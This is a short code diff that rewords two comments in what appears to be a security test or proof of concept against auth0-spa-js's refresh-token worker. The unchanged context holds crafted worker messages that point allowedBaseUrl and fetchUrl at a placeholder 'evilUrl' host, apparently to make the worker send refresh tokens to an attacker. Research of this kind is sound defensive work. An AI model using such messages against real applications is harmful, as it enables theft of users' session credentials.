@@ -1,5 +1,5 @@
-// auth0-spa-js as its documentation says that it is safest: refresh tokens in its worker, the rest
-// in memory.
+// auth0-spa-js in the setup that its documentation calls safest: refresh tokens in its worker, the
+// rest in memory.
 import { Auth0Client } from '@auth0/auth0-spa-js';
 
 const { evilUrl, apiUrl, clientConfig } = window;
@@ -7,7 +7,7 @@ const body = 'client_id=app&grant_type=refresh_token';
 const options = (more) => ({ method: 'POST', body, headers: { 'content-type': 'application/x-www-form-urlencoded' }, ...more });
 const auth = { audience: 'default', scope: 'openid read offline_access' };
 const ask = { type: 'refresh', timeout: 5_000, useFormData: true, auth };
-/** Messages of the worker's own kind. */
+/** Messages in the worker's own format. */
 window.words = [
   { type: 'init', allowedBaseUrl: `${evilUrl}/evil` },
   { ...ask, fetchUrl: `${evilUrl}/oauth/token`, fetchOptions: options() },
